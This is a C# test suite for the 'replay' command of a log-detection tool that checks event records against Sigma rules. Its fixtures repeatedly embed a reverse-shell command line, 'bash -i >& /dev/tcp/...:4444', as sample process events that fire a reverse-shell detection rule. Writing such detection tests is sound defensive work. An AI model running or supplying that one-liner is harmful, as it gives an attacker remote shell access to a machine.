using System.Diagnostics;
using System.IO.Compression;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Picket.Spec.Cli;

/// <summary><c>picket replay</c> over good and bad input.</summary>
public sealed class ReplaySpec : IDisposable
{
    private const string ReverseShell = "f14eb449-a05b-47b7-8557-70973f8b0c7d";
    private const string Shell = """{"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.10/4444 0>&1","ProcessId":PID}""";
    private const string Native = """{"Channel":"Security","EventID":4688,"NewProcessName":"x"}""";
    private const string Quiet = """{"Image":"/bin/ls","CommandLine":"ls"}""";

    private readonly string _folder = Directory.CreateTempSubdirectory("picket-cli-").FullName;
    private readonly string _rules;

    public ReplaySpec()
    {
        _rules = Path.Combine(_folder, "rules");
        Directory.CreateDirectory(_rules);
        var bundled = Path.Combine(Corpora.Root, "config", "rules", "sigma", "execution_reverse_shell.yml");
        File.Copy(bundled, Path.Combine(_rules, "shell.yml"));
    }

    private string Alerts => Path.Combine(_folder, "alerts.ndjson");

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Theory]
    [InlineData("process_creation", Native, null, "4688")]
    [InlineData("process_creation", Native, "windows", null)]
    [InlineData("file_event", Native, null, null)]
    [InlineData("process_creation", """{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"x"}""", null, null)]
    [InlineData("process_creation", """{"Channel":"Security","EventID":4624}""", null, null)]
    [InlineData("process_creation", """{"Channel":"System","EventID":4688}""", null, null)]
    [InlineData("process_creation", """{"EventID":4688.0,"SourceName":"Microsoft-Windows-Security-Auditing"}""", null, "4688")]
    public async Task Rules_that_are_not_asked_about_what_Windows_itself_recorded_are_told_of(
        string category, string record, string? pipeline, string? told)
    {
        var rule = Write("rule.yml", "title: t", $"logsource: {{ product: windows, category: {category} }}", "detection:",
            "  s:", "    Image: y", "  condition: s");
        var input = Write("in.ndjson", record);
        string[] options = ["replay", "--rules", rule, "--alerts", Alerts, input, .. pipeline is null ? Array.Empty<string>() : ["--pipeline", pipeline]];

        var text = await Cli.RunAsync(options);
        var json = await Cli.RunAsync([.. options, "--json"]);

        Assert.Equal(0, text.Code);
        Assert.Equal(told is not null, text.Out.Contains("\nwarning: rules of process_creation were not asked about the records of Security 4688", StringComparison.Ordinal));
        using var summary = JsonDocument.Parse(json.Out);
        Assert.Equal(told is null ? 0 : 1, summary.RootElement.GetProperty("warnings").GetArrayLength());
    }

    [Fact]
    public async Task An_input_without_a_record_is_told()
    {
        var empty = Write("empty.json");
        var open = Write("open.json", "[");
        var result = await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, "--json", empty, open, Write("one.json", Quiet));
        Assert.Equal(0, result.Code);
        Assert.Contains($"picket: warning: there is no record in {empty}, {open}", result.Error);
        using var summary = JsonDocument.Parse(result.Out);
        Assert.Equal([$"there is no record in {empty}", $"there is no record in {open}"],
            summary.RootElement.GetProperty("warnings").EnumerateArray().Select(warning => warning.GetString()));
    }

    [Fact]
    public async Task What_the_alert_says_has_no_empty_parts()
    {
        var rule = Write("rule.yml", "title: t", "logsource: { product: aws, service: cloudtrail }", "detection:", "  s:", "    eventName: x",
            "  condition: s");
        await Cli.RunAsync("replay", "--rules", rule, "--alerts", Alerts, Write("in.json", """{"eventName":"x"}"""));
        using var alert = JsonDocument.Parse(File.ReadAllText(Alerts));
        Assert.Equal("t | in.json:1", alert.RootElement.GetProperty("message").GetString());
    }

    [Fact]
    public async Task A_malformed_line_is_named_and_the_rest_is_asked_about()
    {
        var first = Write("first.ndjson", Of(1), "{\"Image\": nope}", Quiet, "", "[1]", Of(2));
        var second = Write("second.ndjson", Of(3), "{\"Image\":\"/bin/ba");
        var result = await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, first, second);
        Assert.Equal(0, result.Code);
        var errors = result.Error.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(3, errors.Length);
        Assert.StartsWith($"picket: {first}:2:12: ", errors[0]);
        Assert.StartsWith($"picket: {first}:5:2: ", errors[1]);
        Assert.StartsWith($"picket: {second}:2:", errors[2]);
        Assert.StartsWith("events 4, alerts 3, malformed 3, ", result.Out);

        var alerts = Read();
        Assert.Equal([(first, 1, 1), (first, 6, 2), (second, 1, 3)], alerts.Select(alert => (
            alert["picket"]!["provenance"]!["file"]!.GetValue<string>(), alert["picket"]!["provenance"]!["record"]!.GetValue<int>(),
            alert["process"]!["pid"]!.GetValue<int>())));
        Assert.All(alerts, alert => Assert.Equal(ReverseShell, alert["rule"]!["id"]!.GetValue<string>()));
        if (!OperatingSystem.IsWindows()) Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(Alerts));
    }

    [Fact]
    public async Task Events_may_come_through_a_pipe_and_alerts_go_into_one()
    {
        if (OperatingSystem.IsWindows()) return;
        var input = Write("in.ndjson", Of(1), Quiet, Of(2));
        var result = await Cli.RunFromShellAsync($"cat {input} | \"$0\" \"$@\" | cat", "replay", "--rules", _rules, "--alerts", "-", "-");
        Assert.Equal(0, result.Code);
        Assert.Equal("", result.Error);
        Assert.Equal([1, 2], result.Out.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => JsonNode.Parse(line)!["process"]!["pid"]!.GetValue<int>()));
        Assert.False(File.Exists("-"));
    }

    [Theory]
    [InlineData("--frmat", "--frmat: no such option, file or folder")]
    [InlineData("--exclusions nowhere.yml", "--exclusions nowhere.yml: no such file")]
    [InlineData("--pipeline PIPELINE", "a pipeline or a file of exclusions has errors: nothing was replayed")]
    public async Task What_would_change_the_answers_is_not_left_out_silently(string options, string message)
    {
        var input = Write("in.ndjson", Of(1));
        var pipeline = Write("broken.yml", "transformations: [");
        var result = await Cli.RunAsync(
            ["replay", input, "--rules", _rules, "--alerts", Alerts, .. options.Replace("PIPELINE", pipeline, StringComparison.Ordinal).Split(' ')]);
        Assert.Equal(2, result.Code);
        Assert.Contains($"picket: {message}", result.Error, StringComparison.Ordinal);
        Assert.False(File.Exists(Alerts));
    }

    [Fact]
    public async Task The_summary_can_be_read_by_a_machine()
    {
        var input = Write("in.ndjson", Of(1), "nonsense", Quiet);
        File.WriteAllText(Path.Combine(_rules, "broken.yml"), "title: broken\n");
        var result = await Cli.RunAsync("replay", "--json", "--rules", _rules, "--alerts", Alerts, input);
        Assert.Equal(0, result.Code);
        using var document = JsonDocument.Parse(result.Out);
        var root = document.RootElement;
        var summary = root.EnumerateObject().Where(property => property.Value.ValueKind == JsonValueKind.Number)
            .ToDictionary(property => property.Name, property => property.Value.GetDouble());
        Assert.Equal(["alerts", "bytes", "events", "events_per_second", "malformed", "rule_errors", "rule_failures", "rules", "seconds"], summary.Keys.Order());
        Assert.Equal(new FileInfo(input).Length, summary["bytes"]);
        Assert.False(root.GetProperty("stopped").GetBoolean());
        var one = Assert.Single(root.GetProperty("inputs").EnumerateArray());
        Assert.Equal(["input", "events", "alerts", "malformed", "bytes", "seconds"], one.EnumerateObject().Select(property => property.Name));
        Assert.Equal((input, 2, 1, 1), (one.GetProperty("input").GetString(), one.GetProperty("events").GetInt32(), one.GetProperty("alerts").GetInt32(), one.GetProperty("malformed").GetInt32()));
        var fired = Assert.Single(root.GetProperty("alerts_by_rule").EnumerateArray());
        Assert.Equal((ReverseShell, 1), (fired.GetProperty("id").GetString(), fired.GetProperty("alerts").GetInt32()));
        Assert.Equal((2, 1, 1, 1, 1, 0), (summary["events"], summary["alerts"], summary["malformed"], summary["rules"], summary["rule_errors"], summary["rule_failures"]));
        Assert.InRange(summary["events_per_second"] * summary["seconds"], 1.9, 2.1);
    }

    [Fact]
    public async Task A_broken_rule_is_named_at_its_place_and_the_others_fire()
    {
        var broken = Path.Combine(_rules, "broken.yml");
        File.WriteAllText(broken, "title: broken\nid: 5b0c7e0e-52ea-4be7-9c0f-6f0c8d5c2b11\nlogsource: { product: linux }\ndetection:\n  sel:\n    Image|endswit: /x\n  condition: sel\n");
        var noYaml = Path.Combine(_rules, "no-yaml.yml");
        File.WriteAllText(noYaml, "title: [\n");
        var result = await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, Write("in.ndjson", Of(1)));
        Assert.Equal(0, result.Code);
        Assert.Contains($"picket: {broken}(6,5): error unknown-modifier: ", result.Error);
        Assert.Contains($"picket: {noYaml}(", result.Error);
        Assert.Single(Read());
    }

    [Fact]
    public async Task A_pipeline_lets_rules_find_events_of_another_shape_and_alerts_name_their_fields()
    {
        var input = Write("in.ndjson", Of(1),
            """{"event":{"category":["process"],"type":["start"]},"process":{"executable":"/bin/bash","command_line":"bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"}}""");
        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, input)).IsDone();
        Assert.Single(Read());
        var result = await Cli.RunAsync("replay", "--json", "--rules", _rules, "--alerts", Alerts, "--pipeline", "ecs", input);
        result.IsDone();

        var alerts = Read();
        Assert.Equal(2, alerts.Count);
        Assert.Contains("process.command_line", alerts[1].ToJsonString(), StringComparison.Ordinal);
        Assert.DoesNotContain("\"field\":\"process.command_line\"", alerts[0].ToJsonString(), StringComparison.Ordinal);
        using var summary = JsonDocument.Parse(result.Out);
        Assert.Equal(1, summary.RootElement.GetProperty("rules").GetInt32());
    }

    [Fact]
    public async Task The_same_replay_gives_the_same_alerts()
    {
        var input = Write("in.ndjson", [.. Enumerable.Range(1, 2000).Select(pid => pid % 3 == 0 ? Of(pid) : Quiet)]);
        var moved = Path.Combine(_folder, "moved.ndjson");
        File.Copy(input, moved);
        List<JsonObject>[] runs = [await RunAsync(input), await RunAsync(input), await RunAsync(moved)];
        Assert.Equal(666, runs[0].Count);
        Assert.Equal(666, runs[0].Select(Id).Distinct().Count());
        Assert.Equal(runs[0].Select(Id), runs[1].Select(Id));
        Assert.Equal(runs[0].Select(Id), runs[2].Select(Id));
        Assert.Equal(runs[0].Select(WithoutClock), runs[1].Select(WithoutClock));

        async Task<List<JsonObject>> RunAsync(string file)
        {
            (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, file)).IsDone();
            return Read();
        }

        static string Id(JsonObject alert) => alert["event"]!["id"]!.GetValue<string>();
    }

    [Fact]
    public async Task The_first_record_is_read_like_every_other()
    {
        const string Full = """{"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.10/4444 0>&1","ProcessId":7,"UtcTime":"2026-01-02 03:04:05.678","Computer":"web1","User":"alice","Company":"Example","SourceIp":"192.0.2.1","TargetFilename":"/tmp/x","QueryName":"example.org","EventID":1}""";
        const string Foreign = """{"logsource":{"product":"windows","category":"process_creation"},"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"}""";
        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, Write("in.ndjson", Full, Full, Full))).IsDone();
        var alerts = Read().ConvertAll(Comparable);
        Assert.Equal(3, alerts.Count);
        Assert.Equal(alerts[2], alerts[0]);
        Assert.Equal(alerts[2], alerts[1]);
        Assert.All((string[])["2026-01-02T03:04:05.678", "web1", "alice", "192.0.2.1", "/tmp/x", "example.org", "\"company\""], text => Assert.Contains(text, alerts[0]));

        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, Write("foreign.ndjson", Foreign))).IsDone();
        Assert.Empty(Read());

        // What sets records of the same content apart: their numbers and the ids made of those.
        static string Comparable(JsonObject alert)
        {
            foreach (var name in (string[])["id", "sequence", "created", "ingested"]) alert["event"]!.AsObject().Remove(name);
            alert["picket"]!.AsObject().Remove("events");
            alert["picket"]!["provenance"]!.AsObject().Remove("record");
            alert.Remove("message");
            return alert.ToJsonString();
        }
    }

    [Fact]
    public async Task A_folder_is_its_files_and_packed_ones_are_unpacked_in_the_order_of_the_records()
    {
        var inputs = Path.Combine(_folder, "inputs");
        Directory.CreateDirectory(Path.Combine(inputs, "b"));
        File.WriteAllText(Path.Combine(inputs, "a.json"), $"[\n{Of(1)},\n{Quiet},{Of(2)}]");
        using (var gzip = new GZipStream(File.Create(Path.Combine(inputs, "b", "c.gz")), CompressionLevel.Fastest)) gzip.Write(Encoding.UTF8.GetBytes(Of(3) + Of(4)));
        using (var archive = ZipFile.Open(Path.Combine(inputs, "d.zip"), ZipArchiveMode.Create))
        {
            foreach (var (name, text) in ((string, string)[])[("z.json", Of(5)), ("a/b.json", Of(6) + "\nnope\n")])
            {
                using var entry = archive.CreateEntry(name).Open();
                entry.Write(Encoding.UTF8.GetBytes(text));
            }
        }

        File.WriteAllText(Path.Combine(inputs, "notes"), "nothing that is recorded\n");
        var result = await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, inputs);
        Assert.Equal(0, result.Code);
        Assert.Equal(Enumerable.Range(1, 6), Read().Select(alert => alert["process"]!["pid"]!.GetValue<int>()));
        Assert.Equal($"{inputs}/d.zip!a/b.json", Read()[5]["picket"]!["provenance"]!["file"]!.GetValue<string>());
        Assert.StartsWith("events 7, alerts 6, malformed 2, ", result.Out);
        Assert.Contains($"picket: {inputs}/d.zip!a/b.json:2:1: ", result.Error);
        Assert.Contains($"picket: {inputs}/notes: ", result.Error);
        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Path.Combine(inputs, "a.json"), inputs)).IsRefused(2, "would overwrite");
    }

    [Fact]
    public async Task A_format_can_be_forced()
    {
        var input = Write("lines", "no header at all", "another");
        (await Cli.RunAsync("replay", "--format", "morse", "--rules", _rules, "--alerts", Alerts, input)).IsRefused(2, "unknown format 'morse': json, auditd, syslog, evtx");
        var result = await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, input);
        Assert.StartsWith("events 0, alerts 0, malformed 1, ", result.Out);
        result = await Cli.RunAsync("replay", "--format", "syslog", "--rules", _rules, "--alerts", Alerts, input);
        Assert.StartsWith("events 2, alerts 0, malformed 0, ", result.Out);
    }

    [Fact]
    public async Task A_signal_ends_the_reading_and_what_was_read_is_written_and_summed_up()
    {
        if (!OperatingSystem.IsLinux()) Assert.Skip("signals are sent by kill(1)");

        // A pipe that says nothing more: the run is at work until it is told to stop, and reads on once the writer goes.
        var pipe = Path.Combine(_folder, "pipe");
        using (var made = Process.Start("mkfifo", pipe)!) await made.WaitForExitAsync(TestContext.Current.CancellationToken);
        var start = new ProcessStartInfo(Cli.Program, ["replay", "--json", "--rules", _rules, "--alerts", Alerts, pipe])
        {
            RedirectStandardOutput = true,
            RedirectStandardError = true,
        };
        using var run = Process.Start(start)!;
        try
        {
            await using (var writer = new FileStream(pipe, FileMode.Open, FileAccess.Write, FileShare.ReadWrite, 0))
            {
                writer.Write(Encoding.UTF8.GetBytes(Of(1) + "\n" + new string(' ', 200_000)));
                using var kill = Process.Start("kill", ["-INT", run.Id.ToString(System.Globalization.CultureInfo.InvariantCulture)])!;
                await kill.WaitForExitAsync(TestContext.Current.CancellationToken);
                var more = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat(Of(2) + "\n", 100)));
                var waiting = Stopwatch.StartNew();
                try
                {
                    // Until nobody reads any more.
                    while (waiting.Elapsed < TimeSpan.FromSeconds(60)) writer.Write(more);
                    Assert.Fail("waited 60 s for the run to stop reading");
                }
                catch (IOException)
                {
                }
            }

            using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(60));
            var output = await run.StandardOutput.ReadToEndAsync(timeout.Token);
            await run.WaitForExitAsync(timeout.Token);
            Assert.Equal(130, run.ExitCode);
            using var document = JsonDocument.Parse(output);
            Assert.True(document.RootElement.GetProperty("stopped").GetBoolean());
            Assert.Equal(Read().Count, document.RootElement.GetProperty("alerts").GetInt32());
            Assert.NotEmpty(Read());
        }
        finally
        {
            if (!run.HasExited) run.Kill();
        }
    }

    [Fact]
    public async Task What_cannot_be_read_or_written_is_status_2()
    {
        var input = Write("in.ndjson", Of(1));
        var gone = Path.Combine(_folder, "gone");
        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Alerts, input, gone)).IsRefused(2, $"{gone}: no such file");
        (await Cli.RunAsync("replay", "--rules", gone, "--alerts", Alerts, input)).IsRefused(2, $"{gone}: no such file");
        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", Path.Combine(input, "x"), input)).IsRefused(2, input);
        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", _folder, input)).IsRefused(2, _folder);
        Assert.False(File.Exists(Alerts));
        if (OperatingSystem.IsLinux()) (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", "/dev/full", input)).IsRefused(2, "/dev/full");
    }

    [Fact]
    public async Task An_input_is_never_overwritten_by_the_alerts()
    {
        var input = Write("in.ndjson", Of(1));
        var link = Path.Combine(_folder, "link.ndjson");
        File.CreateSymbolicLink(link, input);
        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", input, input)).IsRefused(2, input);
        (await Cli.RunAsync("replay", "--rules", _rules, "--alerts", link, input)).IsRefused(2, link);
        Assert.Equal(Of(1) + "\n", await File.ReadAllTextAsync(input, TestContext.Current.CancellationToken));
    }

    private static string Of(int pid) => Shell.Replace("PID", pid.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal);

    /// <summary>The record has no time of its own, so that the clock of the run stands in its place.</summary>
    private static string WithoutClock(JsonObject alert)
    {
        var copy = alert.DeepClone().AsObject();
        copy.Remove("@timestamp");
        copy["event"]!.AsObject().Remove("created");
        copy["event"]!.AsObject().Remove("ingested");
        return copy.ToJsonString();
    }

    private string Write(string name, params string[] lines)
    {
        var file = Path.Combine(_folder, name);
        File.WriteAllText(file, string.Join('\n', lines) + "\n");
        return file;
    }

    private List<JsonObject> Read() => [.. File.ReadLines(Alerts).Select(line => JsonNode.Parse(line)!.AsObject())];
}
